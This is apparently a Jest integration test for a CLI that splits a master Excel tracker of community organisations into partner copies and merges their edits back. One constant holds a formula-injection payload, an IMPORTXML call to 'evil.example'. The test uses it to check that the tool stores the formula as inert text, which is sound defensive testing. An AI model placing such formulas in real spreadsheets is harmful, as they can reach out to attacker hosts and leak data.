/**
 * Partner copies through the CLI: partners-split → partners edit their .xlsx (exceljs) → the master
 * is edited too → partners-collect (twice) → partners-split again reuses the copies.
 */
import ExcelJS from 'exceljs';
import fs from 'node:fs';
import path from 'node:path';
import { REPO_ROOT } from '../../src/offline/runtime';
import { ensureBuild, tempDir } from '../support/runtime';
import { runCli } from '../support/cli';

const EXAMPLE = path.join(REPO_ROOT, 'examples', 'cbo-tracker-example.xlsx');
const A = 'Banteay Meanchey Community Network';
const B = 'Coastal Communities Organisation';
const C = 'Mekong Community Voices';
const EVIL = '=IMPORTXML("http://evil.example","//a")';

const cli = (...args: string[]) => runCli(REPO_ROOT, ...args);

function json(run: ReturnType<typeof cli>) {
  try {
    return JSON.parse(run.stdout);
  } catch {
    throw new Error(`no JSON (exit ${run.code}): ${run.stderr}`);
  }
}

async function read(file: string): Promise<ExcelJS.Workbook> {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  return workbook;
}

/** Sheet rows as plain values (index 0 = row 1, column A first). */
function rows(workbook: ExcelJS.Workbook, name: string): unknown[][] {
  const ws = workbook.getWorksheet(name);
  if (!ws) throw new Error(`no sheet ${name}`);
  const out: unknown[][] = [];
  ws.eachRow({ includeEmpty: true }, (row, r) => {
    out[r - 1] = (row.values as unknown[]).slice(1);
  });
  return out.map((row) => row ?? []);
}

function column(workbook: ExcelJS.Workbook, sheet: string, header: string): number {
  const index = rows(workbook, sheet)[0].indexOf(header);
  if (index < 0) throw new Error(`no column ${header} in ${sheet}`);
  return index + 1;
}

/** The row number of a CBO ID in a CBOs sheet. */
function rowOf(workbook: ExcelJS.Workbook, id: string): number {
  const index = rows(workbook, 'CBOs').findIndex((row) => row[0] === id);
  if (index < 0) throw new Error(`no CBO ${id}`);
  return index + 1;
}

const copyFile = (dir: string, partner: string) => path.join(dir, 'partners', `${partner} – CBOs.xlsx`);

/** The example workbook cut to three partners with three CBOs each. */
async function master(dir: string): Promise<{ file: string; ids: Record<string, string[]> }> {
  const workbook = await read(EXAMPLE);
  const ids: Record<string, string[]> = { [A]: [], [B]: [], [C]: [] };
  const cbos = workbook.getWorksheet('CBOs')!;
  const partnerColumn = column(workbook, 'CBOs', 'Partner');
  for (let r = cbos.rowCount; r >= 2; r--) {
    const row = cbos.getRow(r);
    const partner = String(row.getCell(partnerColumn).value ?? '');
    if (ids[partner] && ids[partner].length < 3) ids[partner].push(String(row.getCell(1).value));
    else cbos.spliceRows(r, 1);
  }
  const partners = workbook.getWorksheet('Partners')!;
  for (let r = partners.rowCount; r >= 2; r--) {
    if (!(String(partners.getRow(r).getCell(1).value) in ids)) partners.spliceRows(r, 1);
  }
  for (const list of Object.values(ids)) list.reverse();
  const file = path.join(dir, 'in', 'master.xlsx');
  fs.mkdirSync(path.dirname(file), { recursive: true });
  await workbook.xlsx.writeFile(file);
  return { file, ids };
}

beforeAll(() => ensureBuild());

test('split, edit the copies and the master, collect twice, split again', async () => {
  const dir = tempDir('partners-cli-');
  const { file, ids } = await master(dir);
  const out = (name: string) => path.join(dir, name);

  // 1. Split: the master with the copies' IDs, one .xlsx per partner, the index.
  const split = cli('partners-split', file, '--out', out('s1'), '--json');
  expect(split.code).toBe(0);
  const splitResult = json(split).result.partners as { partner: string; id: string; cbos: number }[];
  expect(splitResult.map((p) => [p.partner, p.cbos])).toEqual([
    [A, 3],
    [B, 3],
    [C, 3],
  ]);
  const index = JSON.parse(fs.readFileSync(out('s1/partners/.index.json'), 'utf8'));
  for (const p of splitResult) {
    expect(index[p.id]).toBe(`${p.partner} – CBOs.xlsx`);
    expect(fs.existsSync(copyFile(out('s1'), p.partner))).toBe(true);
  }
  const s1 = await read(out('s1/master.xlsx'));
  const sheetColumn = column(s1, 'Partners', 'Partner sheet');
  expect(
    rows(s1, 'Partners')
      .slice(1)
      .map((row) => row[sheetColumn - 1]),
  ).toEqual(splitResult.map((p) => p.id));
  expect(s1.getWorksheet('Partner snapshots')!.state).toBe('hidden');

  // 2. Partner A: edits a name, a formula typed as text, a conflicting Members, deletes a row,
  //    adds a CBO, and types a wrong Women members (held back).
  const copyA = await read(copyFile(out('s1'), A));
  const wsA = copyA.getWorksheet('CBOs')!;
  const [a1, a2, a3] = ids[A];
  const name = column(copyA, 'CBOs', 'CBO name');
  const members = column(copyA, 'CBOs', 'Members');
  const women = column(copyA, 'CBOs', 'Women members');
  const notes = column(copyA, 'CBOs', 'Notes');
  wsA.getRow(rowOf(copyA, a1)).getCell(name).value = 'Renamed by the partner';
  wsA.getRow(rowOf(copyA, a1)).getCell(women).value = 'many';
  wsA.getRow(rowOf(copyA, a2)).getCell(notes).value = EVIL;
  wsA.getRow(rowOf(copyA, a2)).getCell(members).value = 50;
  const template = (wsA.getRow(rowOf(copyA, a1)).values as ExcelJS.CellValue[]).slice(1);
  wsA.spliceRows(rowOf(copyA, a3), 1);
  const added = wsA.getRow(wsA.rowCount + 1);
  template.forEach((value, i) => (added.getCell(i + 1).value = value));
  added.getCell(1).value = 'CBO-900';
  added.getCell(name).value = 'New savings group';
  added.getCell(women).value = 3;
  await copyA.xlsx.writeFile(copyFile(out('s1'), A));

  // Partner B: renames the Notes header, edits a Village, and sends a row of partner A's CBO.
  const copyB = await read(copyFile(out('s1'), B));
  const wsB = copyB.getWorksheet('CBOs')!;
  const village = column(copyB, 'CBOs', 'Village');
  wsB.getRow(1).getCell(column(copyB, 'CBOs', 'Notes')).value = 'Remarks';
  wsB.getRow(rowOf(copyB, ids[B][0])).getCell(village).value = 'Phum Thmey';
  const stolen = wsB.getRow(wsB.rowCount + 1);
  (wsB.getRow(2).values as ExcelJS.CellValue[]).slice(1).forEach((v, i) => (stolen.getCell(i + 1).value = v));
  stolen.getCell(1).value = a1;
  stolen.getCell(name).value = 'Taken over';
  await copyB.xlsx.writeFile(copyFile(out('s1'), B));

  // The master changes a2's Members too (a conflict).
  const edited = await read(out('s1/master.xlsx'));
  edited
    .getWorksheet('CBOs')!
    .getRow(rowOf(edited, a2))
    .getCell(column(edited, 'CBOs', 'Members')).value = 99;
  await edited.xlsx.writeFile(out('s1/master.xlsx'));
  const before = rows(edited, 'CBOs').length;

  // 3. Collect: exit 1 (conflicts, a held-back change).
  const collect = cli(
    'partners-collect',
    out('s1/master.xlsx'),
    '--from',
    out('s1'),
    '--out',
    out('c1'),
    '--json',
  );
  expect(collect.code).toBe(1);
  const result = json(collect).result;
  // a1's rename waits with its Women members error: a row is collected whole or not at all.
  expect(result).toMatchObject({ updated: 2, appended: 1, heldBack: 2 });
  expect(result.problems).toContainEqual(
    expect.objectContaining({ partner: A, column: 'Women members', value: 'many', heldBack: true }),
  );
  const c1 = await read(out('c1/master.xlsx'));
  const cbos = rows(c1, 'CBOs');
  const byId = (id: string) => cbos[rowOf(c1, id) - 1];
  expect(cbos).toHaveLength(before + 1);
  expect(byId(a1)[name - 1]).toBe(rows(edited, 'CBOs')[rowOf(edited, a1) - 1][name - 1]);
  expect(byId(a1)[women - 1]).toBe(rows(edited, 'CBOs')[rowOf(edited, a1) - 1][women - 1]);
  // Text stays the text typed: no apostrophe kept in plain-text cells.
  expect(cbos.flat().filter((v) => typeof v === 'string' && v.startsWith("'"))).toEqual([]);
  expect(byId(a2)[members - 1]).toBe(99);
  const evil = c1.getWorksheet('CBOs')!.getRow(rowOf(c1, a2)).getCell(notes);
  expect(evil.type).not.toBe(ExcelJS.ValueType.Formula);
  expect(evil.value).toBe(EVIL);
  expect(byId(a3)[0]).toBe(a3); // deleted by the partner: kept
  expect(byId('CBO-900')[name - 1]).toBe('New savings group');
  expect(byId(ids[B][0])[village - 1]).toBe('Phum Thmey');
  expect(byId(a1)[column(c1, 'CBOs', 'Partner') - 1]).toBe(A);
  for (const row of rows(edited, 'CBOs').slice(1)) expect(cbos.some((r) => r[0] === row[0])).toBe(true);

  const conflicts = rows(c1, 'Sync conflicts').slice(1);
  const conflict = conflicts.find((r) => r[1] === a2 && r[2] === 'Members');
  expect(conflict?.slice(0, 5)).toEqual([A, a2, 'Members', '99', '50']);
  expect(conflicts.some((r) => r[1] === a3 && /Deleted from the partner copy/.test(String(r[7])))).toBe(true);
  expect(conflicts.some((r) => r[0] === B && r[1] === a1 && /refused/.test(String(r[7])))).toBe(true);
  expect(conflicts.some((r) => r[0] === B && r[2] === 'Remarks')).toBe(true);
  const problems = rows(c1, 'Partner problems').slice(1);
  expect(
    problems.some((r) => r[0] === A && r[3] === 'Women members' && /Not collected/.test(String(r[8]))),
  ).toBe(true);
  const log = rows(c1, 'Change log').filter((r) => /\(from /.test(String(r[1])));
  expect(log).toHaveLength(3);

  // 4. Collect again: nothing applied, nothing lost.
  const again = cli(
    'partners-collect',
    out('c1/master.xlsx'),
    '--from',
    out('s1'),
    '--out',
    out('c2'),
    '--json',
  );
  expect(json(again).result).toMatchObject({ updated: 0, appended: 0 });
  const c2 = await read(out('c2/master.xlsx'));
  expect(rows(c2, 'CBOs')).toEqual(cbos);
  expect(rows(c2, 'Change log')).toHaveLength(rows(c1, 'Change log').length);

  // 5. Split again: C (untouched) is refreshed with the master's change under the same ID; A and B
  //    have uncollected changes and are left as they are; no new copy anywhere.
  const c1Edit = await read(out('c1/master.xlsx'));
  c1Edit.getWorksheet('CBOs')!.getRow(rowOf(c1Edit, ids[C][0])).getCell(name).value = 'Renamed in the master';
  await c1Edit.xlsx.writeFile(out('c1/master.xlsx'));
  const resplit = cli(
    'partners-split',
    out('c1/master.xlsx'),
    '--from',
    out('s1'),
    '--out',
    out('s2'),
    '--json',
  );
  expect(resplit.code).toBe(1);
  const again2 = json(resplit).result.partners as {
    partner: string;
    id: string;
    reused: boolean;
    refused?: string;
  }[];
  const idOf = (partner: string) => splitResult.find((p) => p.partner === partner)!.id;
  expect(again2.find((p) => p.partner === C)).toMatchObject({ id: idOf(C), reused: true });
  expect(again2.find((p) => p.partner === A)!.refused).toMatch(/not collected/);
  expect(again2.find((p) => p.partner === B)!.refused).toMatch(/not collected/);
  const s2Index = JSON.parse(fs.readFileSync(out('s2/partners/.index.json'), 'utf8'));
  expect(Object.keys(s2Index).sort()).toEqual(splitResult.map((p) => p.id).sort());
  const copyC = await read(copyFile(out('s2'), C));
  expect(rows(copyC, 'CBOs')[rowOf(copyC, ids[C][0]) - 1][name - 1]).toBe('Renamed in the master');
  const keptA = await read(copyFile(out('s2'), A));
  expect(rows(keptA, 'CBOs')[rowOf(keptA, a1) - 1][name - 1]).toBe('Renamed by the partner');
  const s2 = await read(out('s2/master.xlsx'));
  expect(
    rows(s2, 'Partners')
      .slice(1)
      .map((row) => row[sheetColumn - 1]),
  ).toEqual(splitResult.map((p) => p.id));

  // 6. A split of the original into s1 again would replace copies partners edit: refused.
  const over = cli('partners-split', file, '--out', out('s1'));
  expect(over.code).toBe(2);
  expect(over.stderr).toMatch(/refusing to overwrite .*made by an earlier run/);
  expect(
    rows(await read(copyFile(out('s1'), A)), 'CBOs').some((r) => r[1] === 'Renamed by the partner'),
  ).toBe(true);
});

test('collect without copies is a usage error', async () => {
  const dir = tempDir('partners-cli-');
  const { file } = await master(dir);
  const run = cli('partners-collect', file, '--out', path.join(dir, 'out'));
  expect(run.code).toBe(2);
  expect(run.stderr).toMatch(/no partner copies beside/);
  expect(cli('partners-collect', file, '--from', path.join(dir, 'nowhere'), '--out', dir).code).toBe(2);
});
